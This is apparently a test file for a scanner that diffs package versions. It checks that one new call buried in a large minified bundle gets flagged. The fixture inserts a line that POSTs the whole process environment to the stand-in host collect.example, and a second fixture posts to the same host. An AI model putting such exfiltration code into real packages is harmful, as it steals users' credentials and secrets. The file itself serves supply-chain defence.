// One new call in a large bundle: found, without following the rest of the bundle.
import { expect, test } from 'vitest';
import { parseSource } from '../../src/behaviors/parse.ts';
import { tellingSpans } from '../../src/pipelines/diff/telling-spans.ts';
import { LIMITS } from '../../src/model/limits.ts';
import { diffOf, pathWord } from '../support/diff.ts';

/** Statements of a minified bundle, all on one line. */
function bundle(characters: number, call: string): string {
  const parts: string[] = ['var h=require("https"),r={};'];
  let size = 0;
  for (let at = 0; size < characters; at += 1) {
    const part = `r.f${at}=function(e,t){for(var n=0;n<e.length;n++){if(e[n]===t+${at}){return e.slice(n).map(function(o){return o*${at}}).concat([t,n,"k${at}"])}}return[]};`;
    parts.push(part);
    size += part.length;
  }
  parts.splice(Math.floor(parts.length / 2), 0, `r.s=function(e){${call}return e};`);
  parts.push('module.exports=r;');
  return parts.join('');
}

const CALL = 'h.request({host:"collect.example",method:"POST"}).end(JSON.stringify(process.env));';
const packageOf = (version: string, source: string) => ({ 'package.json': JSON.stringify({ name: 'bundled', version, main: 'index.js' }), 'index.js': source });
const sides = (characters: number) => ({ ...placed('old', packageOf('1.0.0', bundle(characters, ''))), ...placed('new', packageOf('1.0.1', bundle(characters, CALL))) });
const placed = (folder: string, files: Readonly<Record<string, string>>) => Object.fromEntries(Object.entries(files).map(([path, text]) => [`${folder}/${path}`, text]));

test.each([['parsed and emptied', 150_000], ['read in windows', 1_700_000]])('in a bundle that is %s', async (_, characters) => {
  const report = await diffOf(pathWord('old'), pathWord('new'), { tree: sides(characters) });
  expect(report.verdict).toMatchObject({ exitCode: 1 });
  expect(report.findings.some(({ locations }) => locations.some(({ path }) => path === 'new/index.js'))).toBe(true);
  expect(JSON.stringify(report.differences?.[0]?.behaviors)).toContain('collect.example');
}, 60_000);

test('what is followed of it is bounded by the change, not by the bundle', { timeout: 60_000 }, () => {
  const text = bundle(200_000, CALL);
  const from = text.indexOf('h.request');
  const { module, read } = parseSource({ path: 'index.js', text, focus: [{ from, to: from + CALL.length }] });
  expect(read).toBe('windows');
  expect((module?.near ?? []).reduce((sum, range) => sum + range.to - range.from, 0)).toBeLessThan(8_000);
  const { module: windows } = parseSource({ path: 'index.js', text: bundle(1_700_000, CALL), focus: [{ from: 1_000_000, to: 1_000_100 }] });
  const body = windows?.program['body'] as readonly { readonly start: number; readonly end: number }[];
  expect(body.reduce((sum, { start, end }) => sum + end - start, 0)).toBeLessThan(LIMITS.focusedWindows * 1.5);
});

test('where a minifier renamed everything, new words tell what is news', () => {
  const before = Array.from({ length: 400 }, () => `y=function(e){return e.length+transform(e)}`).join(';');
  const after = Array.from({ length: 400 }, () => `z=function(t){return t.length+transform(t)}`).join(';');
  const changed = `${after};x.post("https://collect.example")`;
  const whole = (text: string) => [{ from: 0, to: text.length }];
  expect(tellingSpans({ added: whole(after), removed: whole(before) }, before, after).added).toEqual([]);
  const { added, besideAdded } = tellingSpans({ added: whole(changed), removed: whole(before) }, before, changed);
  expect(added.map(({ from, to }) => changed.slice(from, to))).toEqual(['post', 'https', 'collect', 'example']);
  expect(besideAdded).toHaveLength(4);
});
